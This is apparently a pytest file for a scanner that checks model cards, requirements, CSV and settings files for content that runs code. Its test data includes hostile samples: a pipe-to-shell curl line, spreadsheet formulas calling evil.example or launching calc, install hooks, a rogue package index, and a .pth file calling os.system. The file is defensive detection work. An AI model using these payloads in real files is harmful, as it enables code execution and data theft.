"""Model cards and plain texts: what leads a reader or a tool to run something is named; ordinary texts are clean."""

from __future__ import annotations

import contextlib
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.card_corpus import CARDS, HOSTILE_CARDS, REQUIREMENTS
from tests.support.cases import each
from tests.support.deepseek import build
from tests.support.inspecting import Bytes, answer, examined, subject_of
from weighbridge.core.errors import FormatError, IntegrityError
from weighbridge.core.finding import Verdict
from weighbridge.inspectors.texts import plain_texts
from weighbridge.inspectors.texts.cards import RULES, ModelCards, front_matter
from weighbridge.inspectors.texts.plain_texts import PlainTexts

PAGE = Path(__file__).parents[1] / "docs/reference/inspectors/model-cards.md"


def rules_of(path: str, data: bytes) -> list[str]:
    return [finding.rule for report in examined(path, data).reports for finding in report.findings]


# --- cards --------------------------------------------------------------------------------------


def test_the_corpus_names_every_rule() -> None:
    assert {f"card-{rule}" for _, _, rule in HOSTILE_CARDS} == {rule.id for rule in RULES}


@each(("name", "text", "rule"), HOSTILE_CARDS, ids=[name for name, _, _ in HOSTILE_CARDS])
def test_what_a_card_does_is_named(name: str, text: str, rule: str) -> None:
    for whole in (text, f"# Model\n\nSome words.\n\n{text}\n\nMore words.\n"):
        report = answer(ModelCards(), Bytes("README.md", whole.encode()))
        assert report is not None
        assert f"card-{rule}" in {finding.rule for finding in report.findings}


@each("path", CARDS)
def test_ordinary_texts_are_clean(path: str) -> None:
    found = examined(path, CARDS[path].encode())
    assert [finding for report in found.reports for finding in report.findings] == []
    assert found.verdict is Verdict.CLEAN


def test_the_place_is_told() -> None:
    report = answer(ModelCards(), Bytes("README.md", b"a\nb\ncurl x.example | sh\n"))
    assert report is not None
    assert [finding.location for finding in report.findings] == ["line 3"]


def test_licences_and_base_models_are_said() -> None:
    subject = subject_of(Bytes("README.md", CARDS["README.md"].encode()))
    ModelCards().inspect(subject)
    said = [(fact.kind, fact.value) for fact in subject.facts]
    assert said == [("licence", "Apache-2.0"), ("base-model", "Qwen/Qwen2.5-7B"), ("base-model", "org/other")]
    subject = subject_of(Bytes("LICENSE", CARDS["LICENSE"].encode()))
    ModelCards().inspect(subject)
    assert [(fact.kind, fact.value) for fact in subject.facts] == [("licence", "MIT")]


def test_the_licence_of_r1_is_said(tmp_path: Path) -> None:
    folder = build(tmp_path / "r1", shards=1)
    for name in ("README.md", "LICENSE"):
        facts = examined(name, (folder / name).read_bytes()).facts
        assert {fact.value for fact in facts if fact.kind == "licence"} == {"MIT"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("---\nlicense: mit\n---\n", [("licence", "mit")]),
        ("---\r\nlicense: mit\r\n---\r\n", [("licence", "mit")]),
        ("---\nbase_model: a/b\n---", [("base_model", "a/b")]),
        ("---\nbase_model: [a/b, c/d]\n---", [("base_model", "a/b"), ("base_model", "c/d")]),
        ("---\nbase_model:\n- a/b\n  - 'c/d'\ntags:\n- x\n---", [("base_model", "a/b"), ("base_model", "c/d")]),
        ("# none\nlicense: mit\n", []),
        ("---\nlicense: mit\n", []),
    ],
)
def test_front_matter(text: str, expected: list[tuple[str, str]]) -> None:
    assert list(front_matter(text)) == expected


def test_findings_are_bounded() -> None:
    report = answer(ModelCards(), Bytes("README.md", b"curl x.example | sh\n<script>\n" * 20_000))
    assert report is not None
    assert len(report.findings) <= 100
    assert report.verdict is Verdict.BAD


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300), st.sampled_from(HOSTILE_CARDS))
def test_any_words_around_a_command_leave_it_named(words: str, case: tuple[str, str, str]) -> None:
    data = f"# Card\n{words}\n\n{case[1]}\n".encode("utf-8", "ignore")
    with contextlib.suppress(FormatError, IntegrityError):
        report = answer(ModelCards(), Bytes("README.md", data))
        assert report is None or report.findings


# --- plain texts --------------------------------------------------------------------------------


@each(("name", "text", "expected"), REQUIREMENTS, ids=[name for name, _, _ in REQUIREMENTS])
def test_requirements(name: str, text: str, expected: set[str]) -> None:
    assert set(rules_of("requirements.txt", text.encode())) == expected


def test_a_password_in_an_address_is_not_repeated() -> None:
    report = answer(PlainTexts(), Bytes("requirements.txt", b"git+https://user:hunter2@evil.example/x.git\n"))
    assert report is not None
    assert "hunter2" not in report.findings[0].message
    assert "evil.example" in report.findings[0].message


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("a.csv", "name,score\nx,-1.5\ny,+2\n\"a, b\",=\n", set()),
        ("a.tsv", "id\ttext\n1\t-call me\n2\t@user\n", set()),
        ("a.csv", "x\n=HYPERLINK(\"http://evil.example?\"&A1)\n", {"table-formula"}),
        ("a.csv", "x,=cmd|'/c calc'!A0\n", {"table-formula"}),
        ("a.csv", "x,\"=WEBSERVICE(\"\"http://evil.example\"\")\"\n", {"table-formula"}),
        ("tokenizer.ini", "[model]\nsize = 3\n", set()),
        ("config.toml", 'name = "x"\n[train]\nsteps = 100\n', set()),
        ("setup.cfg", "[metadata]\nname = x\n[options.entry_points]\nx = y\n", {"settings-runs-code"}),
        ("setup.cfg", "[options]\ncmdclass =\n  install = evil.Install\n", {"settings-runs-code"}),
        ("setup.cfg", "[options]\ndependency_links =\n  http://evil.example/x\n", {"requirements-address"}),
        ("pyproject.toml", '[build-system]\nbuild-backend = "evil"\n', {"settings-runs-code"}),
        ("pip.conf", "[global]\nindex-url = https://evil.example/simple\n", {"settings-index"}),
    ],
)  # fmt: skip
def test_tables_and_settings(path: str, text: str, expected: set[str]) -> None:
    assert set(rules_of(path, text.encode())) == expected
    if not expected:
        assert examined(path, text.encode()).verdict is Verdict.CLEAN


def test_path_files_of_python() -> None:
    assert "path-file-import" in rules_of("evil.pth", b"import os;os.system('id')\n")
    assert "path-file" in rules_of("a.pth", b"../lib\n")
    assert examined("evil.pth", b"x\nimport os\n").verdict is Verdict.BAD


def test_every_rule_of_plain_texts_is_provoked() -> None:
    provoked = {rule for _, _, rules in REQUIREMENTS for rule in rules}
    here = {
        "table-formula", "settings-runs-code", "settings-index", "path-file", "path-file-import",
        "style-script", "style-external",
    }  # fmt: skip
    assert provoked | here == {rule.id for rule in plain_texts.RULES}


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(["requirements.txt", "a.csv", "a.toml", "a.pth"]), st.binary(max_size=300))
def test_any_bytes_are_answered(path: str, data: bytes) -> None:
    report = answer(PlainTexts(), Bytes(path, data))
    assert report is None or report.path == path


def test_the_page_names_every_rule() -> None:
    page = PAGE.read_text(encoding="utf-8")
    assert [rule.id for rule in (*RULES, *plain_texts.RULES) if not re.search(f"`{rule.id}`", page)] == []
